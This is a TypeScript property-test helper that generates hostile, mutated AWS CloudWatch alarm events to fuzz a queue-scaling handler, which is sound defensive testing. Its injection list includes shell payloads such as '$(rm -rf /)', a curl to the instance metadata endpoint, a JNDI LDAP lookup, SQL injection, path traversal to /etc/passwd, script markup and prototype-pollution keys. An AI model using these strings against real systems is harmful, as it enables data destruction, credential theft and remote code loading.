// fast-check generators of hostile alarm events: real EventBridge events (the fixtures) mutated in the ways bad input arrives.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';

export type JsonObject = { [key: string]: unknown };

const FIXTURES = join(__dirname, '../fixtures/events');

/** Every real event shape in test/fixtures/events (single metric, metric math, anomaly detection, composite, ...). */
export function fixtureEvents(): JsonObject[] {
  return readdirSync(FIXTURES)
    .filter((name) => name.endsWith('.json'))
    .sort()
    .map((name) => JSON.parse(readFileSync(join(FIXTURES, name), 'utf8')) as JsonObject);
}

/** The single-metric fixture turned into a queue-depth alarm on `queueName`: the event scale-consumers acts on. */
export function queueAlarmEvent(
  queueName: string,
  base: JsonObject = JSON.parse(readFileSync(join(FIXTURES, 'alarm-state-change-single-metric.json'), 'utf8')) as JsonObject,
): JsonObject {
  const event = structuredClone(base) as {
    detail: { alarmName: string; configuration: { metrics: Array<{ metricStat: { metric: Record<string, unknown> } }> } };
    resources: string[];
  } & JsonObject;
  event.detail.alarmName = `${queueName}-depth`;
  event.resources = [`arn:aws:cloudwatch:us-east-1:123456789012:alarm:${queueName}-depth`];
  const metric = event.detail.configuration.metrics[0]?.metricStat.metric;
  if (metric) Object.assign(metric, { namespace: 'AWS/SQS', name: 'ApproximateNumberOfMessagesVisible', dimensions: { QueueName: queueName } });
  return event;
}

/** Strings that look like attacks on whatever reads the alarm name or a dimension: SQL, shell, templates, JNDI, paths, markup, prototype keys. */
export const INJECTION_STRINGS = [
  "'; DROP TABLE incidents; --",
  "' OR '1'='1",
  '$(rm -rf /)',
  '`reboot`',
  '; curl http://169.254.169.254/latest/meta-data/ #',
  '${jndi:ldap://example.invalid/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '%00%0d%0aSet-Cookie: x=1',
  'line\r\nInjected: header',
  '__proto__',
  'constructor',
  'prototype',
  'arn:aws:lambda:us-east-1:123456789012:function:*',
  '*',
  'notification-service-queue\u0000other-queue',
  'notification-service-queue ',
  'NOTIFICATION-SERVICE-QUEUE',
  '\u202enotification-service-queue',
  'notification\u200bservice\u200bqueue',
  '\u001b[31mred\u001b[0m',
  '\ud800',
  'https://sqs.us-east-1.amazonaws.com/123456789012/notification-service-queue',
];

const unicodeString = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom('🔥🔥🔥', 'ñandú', 'очередь', 'キュー', '\u0301\u0301', '\uffff', '\udfff\ud800'),
);

/** Values of the wrong type for any field. */
const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.double(),
  fc.constantFrom(Number.NaN, Number.POSITIVE_INFINITY, -0, 1e308),
  fc.string({ maxLength: 10 }),
  fc.array(fc.string({ maxLength: 4 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 4 }), fc.string({ maxLength: 4 }), { maxKeys: 3 }),
  // Fresh objects each time: a later mutation may write into this one.
  fc.constantFrom('{}', '[]').map((text) => JSON.parse(text) as unknown),
);

const oversized: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer({ min: 256, max: 400 }).map((n) => 'a'.repeat(n)),
  fc.integer({ min: 1025, max: 2000 }).map((n) => 'q'.repeat(n)),
  fc.integer({ min: 11, max: 300 }).map((kb) => 'x'.repeat(kb * 1024)),
  fc.constant(Number.MAX_VALUE),
  fc.constant(`${'9'.repeat(400)}`),
);

const hugeArray: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer({ min: 31, max: 5000 }).map((n) => Array.from({ length: n }, (_, i) => `arn:aws:cloudwatch:us-east-1:123456789012:alarm:a${i}`)),
  fc.integer({ min: 2, max: 2000 }).map((n) => Array.from({ length: n }, (_, i) => ({ id: `m${i}`, metricStat: { metric: { name: 'X', namespace: 'AWS/SQS' } } }))),
  fc.integer({ min: 31, max: 1000 }).map((n) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`Dim${i}`, `v${i}`]))),
);

const deepNesting: fc.Arbitrary<unknown> = fc.integer({ min: 20, max: 200 }).map((depth) => {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i += 1) value = { nested: value };
  return value;
});

/** A JSON.parse'd object whose own "__proto__" key tries prototype pollution. */
const pollution: fc.Arbitrary<unknown> = fc
  .constantFrom('{"__proto__":{"polluted":"yes"}}', '{"constructor":{"prototype":{"polluted":"yes"}}}')
  .map((text) => JSON.parse(text) as unknown);

type Mutation =
  | { kind: 'delete'; at: number }
  | { kind: 'set'; at: number; value: unknown; label: string }
  | { kind: 'name'; value: unknown; label: string }
  | { kind: 'dimension'; key: string; value: unknown; label: string };

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 3, arbitrary: fc.nat().map((at): Mutation => ({ kind: 'delete', at })) },
  { weight: 3, arbitrary: fc.tuple(fc.nat(), wrongType).map(([at, value]): Mutation => ({ kind: 'set', at, value, label: 'wrong type' })) },
  { weight: 2, arbitrary: fc.tuple(fc.nat(), oversized).map(([at, value]): Mutation => ({ kind: 'set', at, value, label: 'oversized' })) },
  { weight: 1, arbitrary: fc.tuple(fc.nat(), hugeArray).map(([at, value]): Mutation => ({ kind: 'set', at, value, label: 'huge array' })) },
  { weight: 1, arbitrary: fc.tuple(fc.nat(), deepNesting).map(([at, value]): Mutation => ({ kind: 'set', at, value, label: 'deep nesting' })) },
  { weight: 1, arbitrary: fc.tuple(fc.nat(), pollution).map(([at, value]): Mutation => ({ kind: 'set', at, value, label: 'prototype pollution' })) },
  { weight: 3, arbitrary: fc.oneof(fc.constantFrom(...INJECTION_STRINGS), unicodeString, oversized, wrongType).map((value): Mutation => ({ kind: 'name', value, label: 'alarm name' })) },
  {
    weight: 3,
    arbitrary: fc
      .tuple(fc.oneof(fc.constant('QueueName'), fc.constantFrom(...INJECTION_STRINGS), unicodeString), fc.oneof(fc.constantFrom(...INJECTION_STRINGS), unicodeString, oversized, wrongType))
      .map(([key, value]): Mutation => ({ kind: 'dimension', key, value, label: 'dimension' })),
  },
);

type Path = Array<string | number>;

/** Every path to a value inside `value` (objects and arrays), the root excluded. */
function pathsOf(value: unknown, prefix: Path = [], out: Path[] = []): Path[] {
  if (Array.isArray(value)) value.forEach((item, i) => (out.push([...prefix, i]), pathsOf(item, [...prefix, i], out)));
  else if (value !== null && typeof value === 'object') {
    for (const [key, item] of Object.entries(value)) {
      out.push([...prefix, key]);
      pathsOf(item, [...prefix, key], out);
    }
  }
  return out;
}

function parentOf(root: unknown, path: Path): Record<string | number, unknown> | undefined {
  let node: unknown = root;
  for (const key of path.slice(0, -1)) {
    if (node === null || typeof node !== 'object') return undefined;
    node = (node as Record<string | number, unknown>)[key];
  }
  return node !== null && typeof node === 'object' ? (node as Record<string | number, unknown>) : undefined;
}

function applyMutation(event: JsonObject, m: Mutation): void {
  if (m.kind === 'name') {
    const detail = event.detail as JsonObject | undefined;
    if (detail && typeof detail === 'object') detail.alarmName = m.value;
    return;
  }
  if (m.kind === 'dimension') {
    const metrics = ((event.detail as JsonObject | undefined)?.configuration as JsonObject | undefined)?.metrics;
    const metric = Array.isArray(metrics) ? ((metrics[0] as JsonObject | undefined)?.metricStat as JsonObject | undefined)?.metric : undefined;
    if (metric && typeof metric === 'object') {
      const dimensions = ((metric as JsonObject).dimensions ??= {}) as JsonObject;
      if (dimensions && typeof dimensions === 'object') Object.defineProperty(dimensions, m.key, { value: m.value, enumerable: true, configurable: true, writable: true });
    }
    return;
  }
  const paths = pathsOf(event);
  if (paths.length === 0) return;
  const path = paths[m.at % paths.length] ?? [];
  const parent = parentOf(event, path);
  const key = path[path.length - 1];
  if (!parent || key === undefined) return;
  if (m.kind === 'delete') {
    if (Array.isArray(parent) && typeof key === 'number') parent.splice(key, 1);
    else delete parent[key];
  } else {
    parent[key] = m.value;
  }
}

export interface GeneratedEvent {
  /** What the handler receives: an object, or JSON text as an SQS body carries it. */
  input: unknown;
  /** How it was made, for the failure message. */
  how: string;
}

/** Real events with 1 to 4 mutations each; sometimes delivered as (possibly truncated) JSON text. */
export function mutatedEvents(bases: JsonObject[]): fc.Arbitrary<GeneratedEvent> {
  return fc
    .tuple(fc.nat({ max: bases.length - 1 }), fc.array(mutation, { minLength: 1, maxLength: 4 }), fc.constantFrom('object', 'object', 'object', 'json', 'truncated-json'), fc.nat())
    .map(([baseIndex, mutations, form, cut]) => {
      const event = structuredClone(bases[baseIndex] ?? {});
      for (const m of mutations) applyMutation(event, m);
      const how = `base ${baseIndex}, ${mutations.map((m) => (m.kind === 'delete' ? 'delete' : m.label)).join(' + ')}, as ${form}`;
      if (form === 'object') return { input: event, how };
      const text = JSON.stringify(event);
      return { input: form === 'json' ? text : text.slice(0, cut % Math.max(1, text.length)), how };
    });
}

/** Not alarm events at all: any JSON value, other event types, empty and odd inputs. */
export const arbitraryInputs: fc.Arbitrary<GeneratedEvent> = fc.oneof(
  fc.jsonValue({ maxDepth: 4 }).map((input) => ({ input, how: 'random JSON value' })),
  fc.anything({ maxDepth: 3 }).map((input) => ({ input, how: 'random JavaScript value' })),
  fc.constantFrom<unknown>(undefined, null, '', '{}', '[]', 'null', '{"source":"aws.cloudwatch"', 0, true, [], new Date(0)).map((input) => ({ input, how: 'odd input' })),
  fc.record({ source: fc.constantFrom('aws.cloudwatch', 'aws.ec2', 'custom'), 'detail-type': fc.string({ maxLength: 40 }), detail: fc.object({ maxDepth: 2 }) }).map((input) => ({ input, how: 'other event' })),
);

/** The fuzz mix: mostly mutated real events, some inputs that are not events at all. */
export function hostileEvents(bases: JsonObject[]): fc.Arbitrary<GeneratedEvent> {
  return fc.oneof({ weight: 9, arbitrary: mutatedEvents(bases) }, { weight: 1, arbitrary: arbitraryInputs });
}
